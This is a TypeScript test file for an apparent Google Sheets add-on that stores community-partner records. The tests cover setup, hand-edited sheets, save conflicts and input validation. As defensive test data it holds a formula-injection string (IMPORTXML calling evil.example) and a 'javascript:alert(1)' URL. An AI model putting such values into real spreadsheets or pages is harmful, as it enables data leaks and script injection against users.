// The partner database on the built bundle: set-up, hand-edited sheets, saves, conflicts, safe values.
import { loadAddOn } from '../../dev/gas';
import { byHand, inspectCell } from '../../dev/workspace/by-hand';
import { TABLE_KEYS, TABLES } from '../../src/shared/schema';
import { FIRST_PAGE } from '../../src/shared/boot';
import type { SaveResult, SetUpReport, SidebarHome } from '../../src/shared/contract';
import type { Partner } from '../../src/shared/records';
import { addPartner, directory, failure, ok, partnerValues, setUpAddOn, snapshot } from './helpers';

const TABS = TABLE_KEYS.map((k) => TABLES[k].tab);

describe('set up partner database', () => {
  it('creates each tab with its headers, a frozen header row, dropdowns, formats and highlight rules', () => {
    const addOn = loadAddOn();
    const report = ok<SetUpReport>(addOn, 'setUpDatabase');
    expect([...report.created].sort()).toEqual([...TABS].sort());
    const ss = addOn.workspace.spreadsheet;
    const partners = ss.getSheetByName('Partners')!;
    expect(partners.getFrozenRows()).toBe(1);
    const headers = partners.getRange(1, 1, 1, partners.getLastColumn()).getValues()[0];
    expect(headers).toEqual(TABLES.partners.columns.map((c) => c.header));
    const statusCol = headers.indexOf('Status') + 1;
    const rule = inspectCell(partners, 2, statusCol).validation;
    expect(rule?.values[0]).toEqual(['prospect', 'vetting', 'onboarding', 'active', 'paused', 'ended']);
    expect(rule?.allowInvalid).toBe(false);
    const checkIn = headers.indexOf('Last check-in') + 1;
    expect(inspectCell(partners, 5, checkIn).format).toBe('yyyy-mm-dd');
    expect(partners.getConditionalFormatRules()).toHaveLength(1);
    expect(ss.getSheetByName('Agreements')!.getConditionalFormatRules()).toHaveLength(2);
  });

  it('changes nothing when run again', () => {
    const addOn = setUpAddOn();
    addPartner(addOn);
    const before = snapshot(addOn);
    addOn.workspace.calls.reset();
    const report = ok<SetUpReport>(addOn, 'setUpDatabase');
    expect(report).toEqual({ created: [], addedColumns: [], idsAssigned: 0, unchanged: true });
    expect(snapshot(addOn)).toEqual(before);
    const writes = Object.entries(addOn.workspace.calls.byMethod()).filter(([m]) =>
      /\.(set|insert|delete|append)/.test(m),
    );
    expect(writes).toEqual([]);
  });

  it('on a hand-edited spreadsheet adds only what is missing and keeps every other cell', () => {
    const addOn = loadAddOn();
    const ss = addOn.workspace.spreadsheet;
    ok(addOn, 'setUpDatabase');
    // People reorder columns, delete one, add their own with data, leave blank rows, rename a tab.
    const sheet = ss.getSheetByName('Partners')!;
    byHand.clearSheet(sheet);
    sheet.getRange(1, 1, 6, 5).setValues([
      ['Our rating', 'Status', 'organization', 'Partner ID', 'Focus Areas'],
      ['★★★', 'active', 'Math Corps', 'P-aaaaaaaaaa', 'tutoring'],
      ['', '', '', '', ''],
      ['keep me', '', '', '', ''],
      ['★', 'Vetting', 'Food Bank', '', 'basic needs'],
      ['=1+1', 'paused', 'Art Studio', 'P-bbbbbbbbbb', 'enrichment and expanded learning'],
    ]);
    byHand.renameSheet(ss.getSheetByName('Contacts')!, 'People we call');
    const before = snapshot(addOn);
    const report = ok<SetUpReport>(addOn, 'setUpDatabase');
    expect(report.created).toEqual([]);
    expect(report.idsAssigned).toBe(1);
    expect(report.addedColumns).toContain('Partners: Website');
    expect(ss.getSheets().map((s) => s.getName())).toEqual(expect.not.arrayContaining(['Contacts']));
    const after = snapshot(addOn);
    const tab = (s: ReturnType<typeof snapshot>, name: string) => s.find((t) => t.name === name)!;
    const [b, a] = [tab(before, 'Partners'), tab(after, 'Partners')];
    // The five original columns are untouched but for the one id given to the hand-added row.
    for (let r = 0; r < b.values.length; r++) {
      for (let c = 0; c < 5; c++) {
        if (r === 4 && c === 3) continue;
        expect([r, c, a.values[r][c], a.formulas[r][c]]).toEqual([r, c, b.values[r][c], b.formulas[r][c]]);
      }
    }
    expect(String(a.values[4][3])).toMatch(/^P-[0-9a-f]{10}$/);
    expect(a.values[0].slice(5)).toEqual(
      TABLES.partners.columns
        .filter((c) => !['id', 'name', 'status', 'focusAreas'].includes(c.key))
        .map((c) => c.header),
    );
    expect(tab(after, 'People we call')).toEqual(tab(before, 'People we call'));
  });

  it('widens a tab too narrow for the columns set-up adds', () => {
    const addOn = setUpAddOn();
    const sheet = addOn.workspace.spreadsheet.getSheetByName('Partners')!;
    // Only the first three columns are left, and the tab is no wider than them.
    byHand.deleteColumns(sheet, 4, sheet.getMaxColumns() - 3);
    const report = ok<SetUpReport>(addOn, 'setUpDatabase');
    expect(report.addedColumns).toHaveLength(TABLES.partners.columns.length - 3);
    expect(sheet.getMaxColumns()).toBe(TABLES.partners.columns.length);
    expect(sheet.getRange(1, 1, 1, sheet.getMaxColumns()).getValues()[0]).toEqual(
      TABLES.partners.columns.map((c) => c.header),
    );
  });

  it('finds the headers under a title row typed above them, and adds no second set of columns', () => {
    const addOn = setUpAddOn();
    addPartner(addOn, { name: 'Math Corps' });
    const sheet = addOn.workspace.spreadsheet.getSheetByName('Partners');
    if (!sheet) throw new Error('no Partners tab');
    byHand.insertRowsBefore(sheet, 1, 1);
    sheet.getRange(1, 1).setValues([['Partners 2026-27']]);
    const width = sheet.getLastColumn();
    expect(ok<SetUpReport>(addOn, 'setUpDatabase').addedColumns).toEqual([]);
    expect(sheet.getLastColumn()).toBe(width);
    expect(directory(addOn).partners.map((p) => p.record.name)).toContain('Math Corps');
  });

  it('does not create a tab twice when two set-ups race', () => {
    const addOn = loadAddOn();
    const release = addOn.workspace.locks.holdDocumentLock();
    expect(failure(addOn, 'setUpDatabase')).toMatch(/Someone else is saving/);
    expect(addOn.workspace.spreadsheet.getSheets().map((s) => s.getName())).not.toContain('Partners');
    release();
    ok(addOn, 'setUpDatabase');
    ok(addOn, 'setUpDatabase');
    const names = addOn.workspace.spreadsheet.getSheets().map((s) => s.getName());
    expect(names.filter((n) => n === 'Partners')).toHaveLength(1);
  });
});

describe('the tabs the first screen looks for', () => {
  it('finds every tab in one Sheets API call, renamed or by a name typed in another case, and names the gone', () => {
    const addOn = setUpAddOn();
    const sheets = addOn.workspace.spreadsheet;
    // Renamed: found by the id set-up recorded. Made again by hand: found by its name in any case and
    // spacing. Deleted: named as missing.
    byHand.renameSheet(sheets.getSheetByName('Annual Reviews')!, 'Reviews 2026');
    sheets.deleteSheet(sheets.getSheetByName('Onboarding')!);
    sheets.insertSheet('  ONBOARDING ');
    sheets.deleteSheet(sheets.getSheetByName('Vetting')!);
    addOn.workspace.calls.reset();
    const d = ok<SidebarHome>(addOn, 'getHome', FIRST_PAGE);
    expect(addOn.workspace.calls.count('Sheets.Spreadsheets.get')).toBe(1);
    expect(addOn.workspace.calls.count('SpreadsheetApp.Spreadsheet.getSheetByName')).toBe(0);
    expect(d.missing).toEqual(['Vetting tab']);
  });
});

describe('saving', () => {
  it('adds a partner with an id and timestamps, and reads it back in the directory', () => {
    const addOn = setUpAddOn();
    const entry = addPartner(addOn, { website: 'https://mathcorps.example.org', lastCheckIn: '2026-09-15' });
    expect(entry.record.id).toMatch(/^P-[0-9a-f]{10}$/);
    expect(entry.record.created).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    const d = directory(addOn);
    expect(d.missing).toEqual([]);
    expect(d.partners.map((p) => p.record)).toEqual([entry.record]);
    const sheet = addOn.workspace.spreadsheet.getSheetByName('Partners')!;
    const col = TABLES.partners.columns.findIndex((c) => c.key === 'lastCheckIn') + 1;
    const cell = sheet.getRange(2, col).getValues()[0][0];
    expect(Object.prototype.toString.call(cell)).toBe('[object Date]');
  });

  it('stores formula-looking and number-looking text as text', () => {
    const addOn = setUpAddOn();
    const risky = [
      '=IMPORTXML("https://evil.example","//a")',
      '+1 555 0100',
      '-call first',
      '@here',
      '0123',
      'TRUE',
      '2026-01-01',
    ];
    const saved = risky.map((text) => addPartner(addOn, { name: text, notes: text, grades: text }));
    const tab = addOn.workspace.inspect().tabs.find((t) => t.name === 'Partners')!;
    expect(tab.formulas.flat().filter(Boolean)).toEqual([]);
    const nameCol = tab.values[0].indexOf('Organization');
    expect(tab.values.slice(1).map((r) => r[nameCol])).toEqual(risky);
    expect(
      directory(addOn)
        .partners.map((p) => p.record.notes)
        .sort(),
    ).toEqual([...risky].sort());
    expect(saved).toHaveLength(risky.length);
  });

  it('writes nothing when any field is invalid, and says which', () => {
    const addOn = setUpAddOn();
    const before = snapshot(addOn);
    const result = ok<SaveResult<Partner>>(addOn, 'savePartner', {
      values: partnerValues({ website: 'javascript:alert(1)', lastCheckIn: '2026-13-01', status: 'asleep' }),
    });
    expect(result.status).toBe('invalid');
    if (result.status !== 'invalid') return;
    expect(Object.keys(result.errors).sort()).toEqual(['lastCheckIn', 'status', 'website']);
    expect(snapshot(addOn)).toEqual(before);
  });

  it.each([
    [[], /argument 1 must be an object/],
    [[{ values: {} }, 2], /takes 1 argument/],
    [[{ values: 'x' }], /values must be an object/],
    [[{ values: {}, sneaky: 1 }], /unexpected field/],
    [[{ values: { name: 'x'.repeat(60000) } }], /too long/],
  ])('refuses bad call #%# with a readable error and writes nothing', (args, message) => {
    const addOn = setUpAddOn();
    const before = snapshot(addOn);
    expect(failure(addOn, 'savePartner', ...args)).toMatch(message);
    expect(snapshot(addOn)).toEqual(before);
  });

  it('refuses a save over a row someone else changed, showing both versions', () => {
    const addOn = setUpAddOn();
    const entry = addPartner(addOn);
    const { id, created: _c, updated: _u, ...values } = entry.record;
    // Someone edits the row by hand after the sidebar loaded it.
    const sheet = addOn.workspace.spreadsheet.getSheetByName('Partners')!;
    const statusCol = TABLES.partners.columns.findIndex((c) => c.key === 'status') + 1;
    sheet.getRange(2, statusCol).setValues([['paused']]);
    const before = snapshot(addOn);
    const result = ok<SaveResult<Partner>>(addOn, 'savePartner', {
      id,
      version: entry.version,
      values: { ...values, notes: 'mine' },
    });
    expect(result).toMatchObject({
      status: 'conflict',
      message: expect.stringMatching(/Changed by someone else/),
    });
    if (result.status !== 'conflict') return;
    expect(result.theirs?.record.status).toBe('paused');
    expect(result.mine.notes).toBe('mine');
    expect(snapshot(addOn)).toEqual(before);
    // Saving again over the version now in the sheet works.
    const again = ok<SaveResult<Partner>>(addOn, 'savePartner', {
      id,
      version: result.theirs!.version,
      values: { ...values, notes: 'mine' },
    });
    expect(again.status).toBe('saved');
  });

  it('finds the row by id after the sheet is sorted, and writes only the changed cell', () => {
    const addOn = setUpAddOn();
    const b = addPartner(addOn, { name: 'Zeta Tutors' });
    addPartner(addOn, { name: 'Alpha Mentors' });
    const sheet = addOn.workspace.spreadsheet.getSheetByName('Partners')!;
    byHand.sortSheet(sheet, TABLES.partners.columns.findIndex((c) => c.key === 'name') + 1);
    const entry = directory(addOn).partners.find((p) => p.record.id === b.record.id)!;
    const { id, created: _c, updated: _u, ...values } = entry.record;
    addOn.workspace.calls.reset();
    const result = ok<SaveResult<Partner>>(addOn, 'savePartner', {
      id,
      version: entry.version,
      values: { ...values, services: 'Reading' },
    });
    expect(result.status).toBe('saved');
    expect(addOn.workspace.calls.byMethod()['SpreadsheetApp.Range.setValues']).toBe(2); // services, updated
    const names = directory(addOn).partners.map((p) => [p.record.name, p.record.services]);
    expect(names).toEqual(
      expect.arrayContaining([
        ['Zeta Tutors', 'Reading'],
        ['Alpha Mentors', ''],
      ]),
    );
  });

  it('says the row is gone when someone deleted it', () => {
    const addOn = setUpAddOn();
    const entry = addPartner(addOn);
    addOn.workspace.spreadsheet.getSheetByName('Partners')!.deleteRows(2, 1);
    const { id, created: _c, updated: _u, ...values } = entry.record;
    const result = ok<SaveResult<Partner>>(addOn, 'savePartner', { id, version: entry.version, values });
    expect(result).toMatchObject({
      status: 'conflict',
      message: expect.stringMatching(/no longer in the Partners tab/),
    });
    expect(directory(addOn).partners).toHaveLength(0);
  });

  it('logs a check-in and moves the partner’s last check-in forward, never back', () => {
    const addOn = setUpAddOn();
    const p = addPartner(addOn, { lastCheckIn: '2026-10-01' });
    ok(addOn, 'logCheckIn', {
      values: { partnerId: p.record.id, date: '2026-11-20', notes: 'Spring plans' },
    });
    ok(addOn, 'logCheckIn', { values: { partnerId: p.record.id, date: '2026-09-01' } });
    const d = directory(addOn);
    expect(d.partners[0].record.lastCheckIn).toBe('2026-11-20');
    expect(d.checkIns.map((c) => c.record.date).sort()).toEqual(['2026-09-01', '2026-11-20']);
  });

  it('refuses a contact for a partner that does not exist', () => {
    const addOn = setUpAddOn();
    const result = ok<SaveResult<unknown>>(addOn, 'saveContact', {
      values: { partnerId: 'P-0000000000', name: 'Ana' },
    });
    expect(result).toMatchObject({
      status: 'invalid',
      errors: { partnerId: expect.stringMatching(/no partner/) },
    });
  });

  it('reports hand-typed problems on the partner instead of failing', () => {
    const addOn = setUpAddOn();
    addPartner(addOn);
    const sheet = addOn.workspace.spreadsheet.getSheetByName('Partners')!;
    const col = (key: string) => TABLES.partners.columns.findIndex((c) => c.key === key) + 1;
    sheet.getRange(2, col('lastCheckIn')).setValues([['sometime in May']]);
    sheet.getRange(2, col('website')).setValues([['not a site']]);
    const [entry] = directory(addOn).partners;
    expect(entry.warnings.map((w) => w.field).sort()).toEqual(['lastCheckIn', 'website']);
    expect(entry.record.lastCheckIn).toBe('sometime in May');
  });
});

describe('cost', () => {
  it('reads the directory with a fixed number of calls whatever the number of rows', () => {
    const counts = [5, 60].map((n) => {
      const addOn = setUpAddOn();
      const sheet = addOn.workspace.spreadsheet.getSheetByName('Partners')!;
      const width = sheet.getLastColumn();
      const rows = Array.from({ length: n }, (_, i) => {
        const row = Array<unknown>(width).fill('');
        row[0] = `P-${String(i).padStart(10, '0')}`;
        row[1] = `Org ${i}`;
        row[2] = 'active';
        return row;
      });
      sheet.getRange(2, 1, n, width).setValues(rows);
      addOn.workspace.calls.reset();
      expect(directory(addOn).partners).toHaveLength(n);
      return addOn.workspace.calls.total();
    });
    expect(counts[0]).toBe(counts[1]);
    expect(counts[0]).toBeLessThanOrEqual(TABLE_KEYS.length * 5);
  });
});
